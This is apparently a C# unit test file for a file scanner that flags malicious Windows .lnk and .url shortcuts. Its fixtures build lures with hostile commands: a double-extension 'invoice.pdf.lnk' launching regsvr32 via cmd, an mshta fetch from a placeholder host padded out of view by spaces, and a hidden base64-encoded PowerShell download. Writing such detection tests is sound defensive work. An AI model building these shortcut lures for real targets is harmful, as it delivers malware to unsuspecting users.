using Postvakt.Documents.Kinds;
using Postvakt.Documents.Report;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Shortcuts;

public sealed class LinkReaderTests
{
    [Fact]
    public void Shortcut_ToAnInterpreter_GivesItsCommand()
    {
        var file = Look.At("invoice.pdf.lnk", Shortcut.Write(@"C:\Windows\System32\cmd.exe", @"/c start /min regsvr32 /s ..\note.ocx", show: 7));
        Assert.Equal(FileKind.Lnk, file.Kind);
        Assert.True(file.Has(FindingKinds.ShortcutCommand));
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.Execute && e.Target == @"C:\Windows\System32\cmd.exe /c start /min regsvr32 /s ..\note.ocx");
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.Hide);
        Assert.True(file.Has(FindingKinds.DoubleExtension));
    }

    [Fact]
    public void Shortcut_ToADocument_HasNoCommand()
    {
        var file = Look.At("plan.lnk", Shortcut.Write(@"D:\Plans\plan.docx", ""));
        Assert.True(file.Has(FindingKinds.Shortcut));
        Assert.False(file.Has(FindingKinds.ShortcutCommand));
    }

    [Fact]
    public void Shortcut_WithBlanksBeforeItsCommand_Hides()
    {
        var file = Look.At("a.lnk", Shortcut.Write(@"C:\Windows\System32\cmd.exe", new string(' ', 300) + "/c mshta https://a.example/x.hta"));
        Assert.True(file.Has(FindingKinds.ShortcutHides));
        Assert.Contains("https://a.example/x.hta", file.Urls());
    }

    [Fact]
    public void Shortcut_WithAFileBehindItsEnd_CarriesIt()
    {
        var file = Look.At("a.lnk", Shortcut.Write(@"C:\x.exe", "", behind: [.. "%PDF-1.4\n"u8, .. new byte[200]]));
        Assert.True(file.Has(FindingKinds.ShortcutHides));
        Assert.Equal(FileKind.Pdf, Assert.Single(file.Files).Kind);
    }

    [Fact]
    public void Shortcut_WithAnEncodedCommand_GivesItInPlainText()
    {
        var script = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("iwr https://b.example/44481.dat -OutFile x.dat"));
        var file = Look.At("a.lnk", Shortcut.Write(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-w hidden -enc " + script));
        Assert.Contains(file.Effects, e => e.Kind == EffectKind.Download && e.Target == "https://b.example/44481.dat");
    }

    [Theory]
    [InlineData(0x14)]
    [InlineData(0x4C)]
    [InlineData(0x50)]
    [InlineData(0x80)]
    public void Shortcut_CutOff_IsStillAShortcut(int length)
    {
        var whole = Shortcut.Write(@"C:\Windows\System32\cmd.exe", "/c dir");
        Assert.True(Look.At("a.lnk", whole[..length]).Has(FindingKinds.Shortcut));
    }

    [Fact]
    public void InternetShortcut_ToAShare_FetchesFromIt()
    {
        var file = Look.At("price list.url", "[InternetShortcut]\r\nURL=file://share.example/docs/list.exe\r\n");
        Assert.True(file.Has(FindingKinds.RemoteObject));
    }
}
